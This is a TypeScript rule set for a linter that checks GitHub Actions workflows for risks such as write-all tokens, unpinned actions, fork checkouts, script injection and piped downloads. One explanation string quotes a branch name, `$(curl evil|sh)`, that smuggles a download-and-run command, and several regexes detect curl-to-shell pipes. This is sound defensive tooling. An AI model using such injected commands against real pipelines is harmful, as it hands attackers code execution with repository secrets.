/** What a workflow file may contain. */
import type { JobFacts, PermissionsFact, WorkflowFacts } from "../../pipelines/facts.ts";
import type { Finding, WorkflowRule } from "./rule.ts";
import { injectionsIn, isOwn, privileged } from "./strangers.ts";

/** Events that a stranger's pull request starts. */
const foreign: ReadonlySet<string> = new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
const dispatched = /\$\{\{(?:(?!\}\}).)*?\b(github\.event\.)?inputs\.[\w-]+(?:(?!\}\}).)*\}\}/;
/** Commands that bring a pull request's commits. */
const fetchesHead = /\bgh\s+pr\s+checkout\b|\bgit\s+(fetch|pull)\b[^#]*\bpull\/[^\s"']*\/(head|merge)\b/;
const secretInText = /\$\{\{(?:(?!\}\}).)*?\bsecrets\.[\w-]+(?:(?!\}\}).)*\}\}/;

const starts = (workflow: WorkflowFacts, events: ReadonlySet<string>): boolean => workflow.triggers.some(({ event }) => events.has(event));
const writes = ({ all, scopes }: PermissionsFact): readonly string[] =>
  all === "write" ? ["everything"] : Object.entries(scopes).flatMap(([scope, right]) => (right === "write" ? [scope] : []));

const texts = (value: unknown): readonly string[] => (Array.isArray(value) ? value.filter((member) => typeof member === "string") : []);

/** Scripts: `run` of steps, and what github-script is given. */
function* scripts(workflow: WorkflowFacts): Iterable<{ readonly text: string; readonly line: number; readonly isShell: boolean }> {
  for (const { steps } of workflow.jobs) {
    for (const { run, uses, with: inputs } of steps) {
      if (run !== undefined) yield { text: run.name, line: run.line, isShell: true };
      const script = uses?.repository === "actions/github-script" ? inputs["script"] : undefined;
      if (script !== undefined) yield { text: script.name, line: script.line, isShell: false };
    }
  }
}

/** Each line of a script that matches, at its line of the file. */
function* linesOf(workflow: WorkflowFacts, pattern: RegExp, words: (found: string) => string, shellOnly = false): Iterable<Finding> {
  for (const { text, line, isShell } of scripts(workflow)) {
    if (shellOnly && !isShell) continue;
    for (const [index, each] of text.split("\n").entries()) {
      const found = pattern.exec(each)?.[0];
      if (found !== undefined) yield { message: words(found), line: line + index };
    }
  }
}

function* eachJob(workflow: WorkflowFacts, judge: (job: JobFacts) => string | undefined): Iterable<Finding> {
  for (const job of workflow.jobs) {
    const message = judge(job);
    if (message !== undefined) yield { message: `job ${job.id} ${message}`, line: job.line };
  }
}

export const workflowRules: readonly WorkflowRule[] = [
  {
    id: "workflow-permissions-stated",
    kind: "workflow",
    title: "A workflow says what its token may do",
    why: "Otherwise the token gets what the repository or the organization gives by default, today and after somebody changes that.",
    severity: "high",
    standards: { scorecard: { check: "Token-Permissions" }, cis: ["2.3.x"] },
    fix: "Write `permissions` at the top, such as `contents: read`, or in each job.",
    *judge(workflow) {
      if (workflow.permissions !== undefined) return;
      yield* eachJob(workflow, ({ permissions }) => (permissions === undefined ? "gets the default token" : undefined));
    },
  },
  {
    id: "workflow-permissions-read",
    kind: "workflow",
    title: "The token of a whole workflow only reads",
    why: "A right at the top is every job's, also of the one that runs a stranger's code.",
    severity: "high",
    standards: { scorecard: { check: "Token-Permissions" } },
    fix: "Give the right to the job that needs it.",
    *judge({ permissions }) {
      const rights = permissions === undefined ? [] : writes(permissions);
      if (permissions !== undefined && rights.length > 0)
        yield { message: `every job may write ${rights.join(", ")}`, line: permissions.line };
    },
  },
  {
    id: "workflow-no-write-all",
    kind: "workflow",
    title: "No job may write everything",
    why: "One step that was taken over would push, release, deploy and delete.",
    severity: "critical",
    standards: { scorecard: { check: "Token-Permissions" } },
    fix: "Name the scopes that the job needs instead of `write-all`.",
    *judge(workflow) {
      for (const permissions of [workflow.permissions, ...workflow.jobs.map((job) => job.permissions)]) {
        if (permissions?.all === "write") yield { message: "write-all", line: permissions.line };
      }
    },
  },
  {
    id: "workflow-actions-pinned",
    kind: "workflow",
    title: "Actions and called workflows are pinned to a commit",
    why: "A tag or a branch can be moved to other code after it was reviewed.",
    severity: "high",
    standards: { scorecard: { check: "Pinned-Dependencies" }, cis: ["3.1.7"] },
    fix: "Write the full commit SHA, with the version in a comment.",
    *judge(workflow) {
      for (const { uses } of workflow.jobs) {
        for (const { text, pinned, line } of uses) if (!pinned) yield { message: `${text} is not pinned`, line };
      }
    },
  },
  {
    id: "workflow-pins-commented",
    kind: "workflow",
    title: "A pinned action says which version it is",
    why: "Nobody sees from a commit SHA that it is old.",
    severity: "low",
    standards: {},
    fix: "Write the version behind it, such as `# v5.0.0`.",
    *judge(workflow) {
      for (const { uses } of workflow.jobs) {
        for (const { text, kind, pinned, comment, line } of uses) {
          if ((kind === "action" || kind === "workflow") && pinned && comment === undefined)
            yield { message: `${text} does not say its version`, line };
        }
      }
    },
  },
  {
    id: "workflow-images-pinned",
    kind: "workflow",
    title: "Images of jobs and services are named by digest",
    why: "A tag of an image can be moved to another one.",
    severity: "medium",
    standards: { scorecard: { check: "Pinned-Dependencies" }, cis: ["3.1.7"] },
    fix: "Write `image@sha256:…`.",
    *judge(workflow) {
      for (const { images } of workflow.jobs) {
        for (const { name, line } of images)
          if (!/@sha256:[0-9a-f]{64}$/.test(name) && !name.includes("${{")) yield { message: `${name} is not pinned`, line };
      }
    },
  },
  {
    id: "workflow-no-foreign-checkout",
    kind: "workflow",
    title: "A workflow with rights does not check out what a stranger proposed",
    why: "Code of a fork would run with the repository's own token and secrets.",
    severity: "critical",
    standards: { scorecard: { check: "Dangerous-Workflow" } },
    fix: "Use `pull_request`, or work on what the base branch holds.",
    *judge(workflow) {
      if (!starts(workflow, privileged)) return;
      for (const job of workflow.jobs) {
        if (isOwn(workflow, job)) continue;
        for (const { uses, with: inputs, line } of job.steps) {
          if (uses?.repository !== "actions/checkout") continue;
          const wanted = `${inputs["ref"]?.name ?? ""} ${inputs["repository"]?.name ?? ""}`;
          if (/pull_request\.head|github\.head_ref|workflow_run\.head|refs\/pull\/|\.merge_commit_sha/.test(wanted))
            yield { message: "it checks out the head of the pull request", line };
          else if (/\b(steps|needs)\.[\w-]+\.outputs\b/.test(wanted)) yield { message: "it checks out what an earlier step chose", line };
        }
        yield* linesOf({ ...workflow, jobs: [job] }, fetchesHead, (found) => `\`${found}\` takes the head of the pull request`, true);
      }
    },
  },
  {
    id: "workflow-no-injection",
    kind: "workflow",
    title: "Texts that anybody can write do not become part of a script",
    why: "A branch called `$(curl evil|sh)` is a program otherwise.",
    severity: "critical",
    standards: { scorecard: { check: "Dangerous-Workflow" } },
    fix: "Hand the value to the script by `env`, and use the variable in quotes.",
    *judge(workflow) {
      for (const { text, line } of scripts(workflow)) {
        for (const found of injectionsIn(text)) yield { message: `${found.expression} is put into a script`, line: line + found.line };
      }
    },
  },
  {
    id: "workflow-inputs-by-env",
    kind: "workflow",
    title: "Inputs do not become part of a script",
    why: "Whoever may start the workflow could run anything with its token and its environments' secrets.",
    severity: "medium",
    standards: {},
    fix: "Hand the input to the script by `env`, and use the variable in quotes.",
    *judge(workflow) {
      yield* linesOf(workflow, dispatched, (found) => `${found} is put into a script`);
    },
  },
  {
    id: "workflow-secrets-by-env",
    kind: "workflow",
    title: "Secrets do not become part of a script",
    why: "A quote in the secret breaks the script, and the script's text is what tools log.",
    severity: "medium",
    standards: {},
    fix: "Hand the secret to the step by `env`.",
    *judge(workflow) {
      yield* linesOf(workflow, secretInText, (found) => `${found} is put into a script`);
    },
  },
  {
    id: "workflow-no-piped-download",
    kind: "workflow",
    title: "Nothing that was downloaded is run unseen",
    why: "Whoever controls the address controls the job.",
    severity: "medium",
    standards: { scorecard: { check: "Pinned-Dependencies" } },
    fix: "Download a named version, compare its checksum, then run it.",
    *judge(workflow) {
      yield* linesOf(workflow, /\b(curl|wget)\b[^|#]*\|\s*(sudo\s+)?(ba|z|da)?sh\b/, () => "a download is piped into a shell", true);
    },
  },
  {
    id: "workflow-no-old-commands",
    kind: "workflow",
    title: "No commands that GitHub switched off for safety",
    why: "`::set-env` and its like let whatever a step prints change the steps behind it.",
    severity: "medium",
    standards: {},
    fix: "Write to $GITHUB_ENV, $GITHUB_PATH or $GITHUB_OUTPUT.",
    *judge(workflow) {
      yield* linesOf(
        workflow,
        /::(set-env|add-path|set-output|save-state)\b|ACTIONS_ALLOW_UNSECURE_COMMANDS/,
        (found) => `${found} is used`,
        true,
      );
    },
  },
  {
    id: "workflow-secrets-not-inherited",
    kind: "workflow",
    title: "A workflow of another repository gets the secrets it needs, by name",
    why: "`secrets: inherit` hands over every secret that there is, and that there will be.",
    severity: "high",
    standards: {},
    fix: "Name the secrets under `secrets`.",
    *judge(workflow) {
      yield* eachJob(workflow, ({ inheritsSecrets, uses }) =>
        inheritsSecrets && uses.some(({ kind }) => kind === "workflow") ? "hands every secret to another repository's workflow" : undefined,
      );
    },
  },
  {
    id: "workflow-no-foreign-runner",
    kind: "workflow",
    title: "A stranger's pull request does not run on a machine of one's own",
    why: "What a job leaves on such a machine meets the next job, and the network behind it.",
    severity: "critical",
    standards: {},
    fix: "Run it on a hosted runner.",
    config: {
      hostedGroups: {
        type: "array",
        items: { type: "string" },
        description: "Runner groups that hold GitHub's own larger runners and no others.",
        default: [],
      },
    },
    *judge(workflow, { hostedGroups }) {
      if (!starts(workflow, foreign)) return;
      yield* eachJob(workflow, ({ runsOn, runnerGroup, runnersOfMatrix }) => {
        if ([...runsOn, ...runnersOfMatrix].some((label) => /\bself-hosted\b/i.test(label))) return "runs on a self-hosted runner";
        if (runnerGroup === undefined || texts(hostedGroups).includes(runnerGroup)) return undefined;
        return `runs on the runner group "${runnerGroup}", which may hold self-hosted runners`;
      });
    },
  },
  {
    id: "workflow-timeouts",
    kind: "workflow",
    title: "A job ends in time",
    why: "One that hangs holds its runner, its concurrency group and every merge that waits for it for six hours.",
    severity: "low",
    standards: {},
    fix: "Write `timeout-minutes`.",
    *judge(workflow) {
      yield* eachJob(workflow, ({ hasTimeout, uses, steps }) =>
        hasTimeout || (steps.length === 0 && uses.length > 0) ? undefined : "has no timeout",
      );
    },
  },
  {
    id: "workflow-identity-with-environment",
    kind: "workflow",
    title: "A job that may ask for an identity runs in an environment",
    why: "A cloud that trusts the repository as a whole trusts each of its branches; an environment says which.",
    // A job that signs with its identity, and deploys nothing, is no way in.
    severity: "low",
    standards: {},
    fix: "Name the `environment` of each job with `id-token: write`.",
    *judge(workflow) {
      yield* eachJob(workflow, (job) => {
        const { scopes = {}, all } = job.permissions ?? workflow.permissions ?? {};
        const asks = all === "write" || scopes["id-token"] === "write";
        return asks && job.environment === undefined && job.uses.every(({ kind }) => kind !== "workflow")
          ? "may ask for an identity, and runs in no environment"
          : undefined;
      });
    },
  },
  {
    id: "workflow-deployments-one-by-one",
    kind: "workflow",
    title: "Deployments to production come one after the other",
    why: "Two at a time end in the state of whichever was slower.",
    severity: "low",
    standards: {},
    fix: "Write `concurrency` with `cancel-in-progress: false`.",
    config: {
      names: {
        type: "string",
        description: "Regular expression of the names of production environments.",
        default: "^(prod|production|live)([-_/].*)?$",
      },
    },
    *judge(workflow, { names }) {
      const production = new RegExp(String(names), "i");
      yield* eachJob(workflow, ({ environment, concurrency }) =>
        environment !== undefined && production.test(environment.name) && concurrency === undefined && workflow.concurrency === undefined
          ? `deploys to ${environment.name} whatever else does`
          : undefined,
      );
    },
  },
];
